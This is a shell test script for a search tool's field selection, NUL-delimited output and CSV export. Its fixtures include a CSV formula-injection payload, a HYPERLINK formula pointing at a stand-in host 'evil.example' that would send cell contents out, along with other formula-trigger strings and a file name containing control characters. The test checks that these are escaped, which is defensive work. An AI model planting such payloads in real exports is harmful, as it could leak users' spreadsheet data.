#!/bin/sh
# --fields, --list-fields, -0, csv: what is printed of a hit.
. "$(dirname "$0")/tap.sh"
cd "$T" || exit 1
mkdir in
cat >in/n.jsonl <<'X'
{"id":"a","title":"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")","date":"2021-05-03","source":"Wire, \"the\" one","url":"https://example.org/a","paragraphs":["Rain, he said.","Rain again."],"actor":["Sameh Shoukry","@SUM(1+1)"],"location":["Egypt","Iraq/Baghdad"]}
{"id":"b","title":"＝1+1","text":"-2 degrees and rain."}
{"id":"c","title":"+49 30","text":"No rain: 'none'."}
X
printf 'Snow.\n' >"$(printf 'in/a\tb\nc\033[1m.txt')"
"$indexer" -q -i ix --no-extract in >out 2>err || cat err
s() { run "$searcher" -i ix "$@"; }

# --- which ---
run "$searcher" --list-fields
exits 0 '--list-fields needs no index'
is "$(cut -f1 out | tr '\n' ' ')" "batch rank id article paragraph title date \
source url path file score others twins snippet highlights text context actor location \
org_type " \
    'it names the fields'
is "$(awk -F '\t' 'NF != 2 || $2 == ""' out)" '' 'each with what it means'
s --format json rain
is "$(perl -MJSON::PP -e 'print join " ", sort keys %{decode_json(<STDIN>)->{hits}[0]}' <out)" \
    "$("$searcher" --list-fields | cut -f1 | grep -vx 'batch\|file\|others\|twins\|context' | sort | xargs)" \
    'json has all but the special ones'
s --format jsonl --fields score,id,highlights,actor rain -n 1 --sort oldest
exits 0 'jsonl with fields'
sed -i 's/"score":[0-9.]*/"score":7/' out
prints 'these, in this order' <<'X'
{"score":7,"id":"a#2","highlights":[[0,4]],"actor":["Sameh Shoukry","@SUM(1+1)"]}
X
s --format json --fields id -n 1 rain --facets 0 --sort oldest
prints 'json with fields' <<'X'
{"schema":1,"query":"rain","total":4,"relaxed":false,"offset":0,"limit":1,"hits":[{"id":"a#2"}],"facets":{"actor":[],"location":[],"org_type":[]},"did_you_mean":null}
X
s --fields rank,location,title --facets 0 rain -n 1 --sort oldest
prints 'text: a line for each' <<'X'
4 paragraphs, 1 to 1 shown

    rank  1
location  Egypt; Iraq/Baghdad
   title  =HYPERLINK("http://evil.example/?"&A1,"x")

X
s --format tsv --fields ' id , url,highlights' --sort oldest rain
prints 'tsv' <<'X'
a#2	https://example.org/a	0-4
a#1	https://example.org/a	0-4
c#1		3-7
b#1		15-19
X
printf 'q 1\train\n' >queries
s --batch queries --format tsv --fields batch,rank,id -n 1 --sort oldest
prints 'the id of the query' <<'X'
q 1	1	a#2
X
s --group --fields id,others --format tsv rain -n 1 --sort newest
prints 'others' <<'X'
a#2	1
X

# bad FIELDS MESSAGE
bad() {
	s --fields "$1" rain
	exits 2 "--fields '$1'"
	warns "^searcher: --fields: $2\$" 'says why'
}
bad id,titel '"titel": no such field; did you mean "title"\?'
bad hilights '"hilights": no such field; did you mean "highlights"\?'
bad loc '"loc": no such field; did you mean "location"\?'
bad xyzzy '"xyzzy": no such field; see searcher --list-fields'
bad id,rank,id '"id": named twice'
bad '' '"": no such field; see searcher --list-fields'
bad id,,rank '"": no such field; see searcher --list-fields'
bad others '"others": only with --group'
bad twins '"twins": only with --unique'
bad context '"context": only with --context'
s --context 1 --fields id,context a#1 --facets 0 said
prints_match '^context  2: Rain again\.$' 'context as text'
s --unique --format tsv --fields id,twins said
prints 'twins' <<'X'
a#1	0
X
s --batch queries --format trec --fields id
exits 2 'not with trec'

# --- NUL ---
s -0 --fields file snow
exits 0 '-0'
xargs -0 cat <out >got
is "$(cat got)" 'Snow.' 'xargs -0 finds a file whose name holds a tab and a line feed'
s --null --fields id,date --sort oldest rain
is "$(tr '\000' '\n' <out)" 'a#2	2021-05-03
a#1	2021-05-03
c#1	
b#1	' 'records end with NUL'
s -0 --values location
is "$(tr '\000' '\n' <out)" 'Egypt	2
Iraq	2
Iraq/Baghdad	2' 'values, too'
s --format tsv --fields file,path snow
is "$(cut -f1 out)" "$(pwd)/in/a b c.txt" 'elsewhere no control characters'
is "$(wc -l <out)" 1 'and one line'
s -0 --format json rain
exits 2 'not with json'
warns '^searcher: -0: only with --format tsv$' 'says so'

# --- csv ---
s --format csv --fields id,title,source,actor,text --sort oldest rain
exits 0 csv
sed -i 's/\r$/<CR>/' out
prints 'header, quotes, CR LF, no formulas' <<'X'
id,title,source,actor,text<CR>
a#2,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","Wire, ""the"" one",Sameh Shoukry; @SUM(1+1),Rain again.<CR>
a#1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","Wire, ""the"" one",Sameh Shoukry; @SUM(1+1),"Rain, he said."<CR>
c#1,'+49 30,,,No rain: 'none'.<CR>
b#1,'＝1+1,,,'-2 degrees and rain.<CR>
X
s --format csv rain -n 1
is "$(head -1 out | tr -d '\r')" \
    'rank,score,id,date,source,title,url,snippet,actor,location,org_type' \
    'its columns'
s --format csv nothing
exits 1 'no match'
is "$(wc -l <out)" 1 'the header alone'
printf '1\train\n2\tsnow\n' | "$searcher" -i ix --batch - --format csv \
    --fields batch,id --sort oldest -n 1 >out
is "$(tr -d '\r' <out | xargs | cut -c 1-16)" 'batch,id 1,a#2 2' \
    'one header for a batch'
s --format csv --values actor
is "$(tr -d '\r' <out | xargs -d '\n' | sed 's/ $//')" \
    "value,count '@SUM(1+1),2 Sameh Shoukry,2" 'values'
s --format csv --timeline=year rain
is "$(tr -d '\r' <out | xargs)" 'period,count 2021,2 ,2' 'a timeline'
s --format csv --cooccur actor,location rain
is "$(tr -d '\r' <out | sed -n 1,2p | xargs -d '\n')" \
    "a,b,count '@SUM(1+1),Egypt,2" 'pairs'
s --format csv --compare snow rain
is "$(tr -d '\r' <out | sed -n 1,2p | xargs -d '\n')" \
    "facet,value,count,compare_count,share,compare_share,log_ratio,g2 actor,'@SUM(1+1),2,0,500.000,0.000,0.000,1.18" \
    'a comparison'
if command -v python3 >/dev/null; then
	"$searcher" -i ix --format csv --sort oldest rain >all.csv
	is "$(python3 -c 'import csv
rows = list(csv.DictReader(open("all.csv", newline="", encoding="utf-8"), strict=True))
print(len(rows), rows[0]["title"], rows[0]["source"])')" \
    "4 '=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Wire, \"the\" one" \
	    'a csv reader agrees'
else
	skip 'a csv reader agrees' 'no python3'
fi
plan_done
